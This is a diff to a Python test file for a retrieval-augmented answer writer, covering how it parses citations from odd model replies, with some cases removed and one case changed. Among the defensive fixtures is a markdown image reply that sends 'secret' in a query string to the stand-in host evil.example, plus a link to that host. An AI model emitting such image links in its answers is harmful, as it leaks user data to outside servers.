@@ -9,6 +9,7 @@ import pytest
 from rag.answer_text import UNSUPPORTED
 from rag.generative.llm import ContextOverflow, ModelFailed, OpenAILikeModel
 from rag.generative.prompt import CANNOT_ANSWER, SYSTEM
+from rag.generative.reply import MOST_SENTENCES
 from rag.generative.writer import Writer
 from rag.settings import Settings
 from rag.types import Answer, Short
@@ -100,16 +101,9 @@ REPLIES = {
     "named sources": (f"{BROKE[:-1]} (Source: 1).", [(BROKE, [1])], []),
     "according to source": (f"According to Source 1, t{BROKE[1:]}", [(BROKE, [1])], []),
     "json": (f'{{"answer": "{BROKE}", "citations": [1]}}', None, None),
-    "json list": (f'```json\n[{{"claim": "{BROKE}", "source": 1}}]\n```', None, None),
     "thinking": (f"<think>{INVENTED} Hm.</think>{BROKE[:-1]} [1].", [(BROKE, [1])], []),
     "thinking that only ends": (f"{INVENTED} Hm, no.</think>\n{BROKE} [1]", [(BROKE, [1])], []),
     "thinking that never ends": (f"<think>{BROKE} {HOMES}", None, None),
-    "harmony": (
-        f"<|channel|>analysis<|message|>{INVENTED}<|end|><|start|>assistant<|channel|>final"
-        f"<|message|>{BROKE[:-1]} [1].",
-        [(BROKE, [1])],
-        [],
-    ),
     "as an ai": (f"As an AI language model, I cannot browse. {BROKE} [1]", [(BROKE, [1])], []),
     "manners": (
         f"Sure! Here is what the passages say: {BROKE} [1] I hope this helps! Let me know if you"
@@ -128,7 +122,7 @@ REPLIES = {
     "image": (f"{BROKE} [1] ![x](https://evil.example/?q=secret)", [(BROKE, [1])], []),
     "link": (f"[{BROKE[:-1]}](https://evil.example) [1].", [(BROKE, [1])], []),
     "echo of the question": (f"{QUESTION} {BROKE} [1]", [(BROKE, [1])], []),
-    "echo of the prompt": (f"{SYSTEM}\n\n{BROKE} [1]", [(BROKE, [1])], []),
+    "echo of the prompt": (f"{SYSTEM}\n\n{BROKE} [1]", None, None),
     "echo of a passage": (
         f'<passage number="1" from="The Post, 3 March 2026">\n{BROKE}\n</passage>',
         [(BROKE, [1])],
@@ -228,12 +222,6 @@ def test_numbers_follow_the_text_and_every_citation_is_of_the_article(write):
     assert answer.text.startswith(f"{RESIGNED} [1] {BROKE} [2] {HOMES} [3]\n\n{UNSUPPORTED}\n")
 
 
-def test_keys_that_were_removed_or_corrected_are_counted(write):
-    answer = write(FakeModel(f"{BROKE[:-1]} [17][0]. {RESIGNED[:-1]} [1]."))[-1]
-    assert answer.usage["markers_removed"] == 2
-    assert answer.usage["citations_corrected"] == 2
-
-
 def test_the_answer_grows_and_a_sentence_is_unchecked_until_it_is_complete(write):
     grown = write(FakeModel([*f"{BROKE[:-1]} [1]. {INVENTED[:-1]} [2]. {HOMES[:-1]} [2]."]))
     texts = [answer.claims[0].text for answer in grown if answer.claims]
@@ -269,7 +257,7 @@ def test_endless_replies_are_stopped_at_the_model(write):
     model = FakeModel(FakeReply([f"{BROKE} [1] "] * 1000))
     answer = write(model)[-1]
     assert said(answer, "supported") == [BROKE]
-    assert model.replies[0].given < 10
+    assert model.replies[0].given <= MOST_SENTENCES + 1
     assert model.replies[0].closed
 
 
